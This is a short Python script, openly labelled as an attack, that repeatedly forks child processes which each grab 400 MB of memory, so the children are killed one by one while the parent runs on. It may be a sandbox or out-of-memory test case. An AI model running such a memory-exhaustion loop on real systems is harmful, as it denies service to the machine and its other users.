# The attack: children use up the memory and are killed one by one, while the parent lives on silently.
import os, time
input()
while True:
    if os.fork() == 0:
        hog = bytearray(400 << 20)
    os.wait()
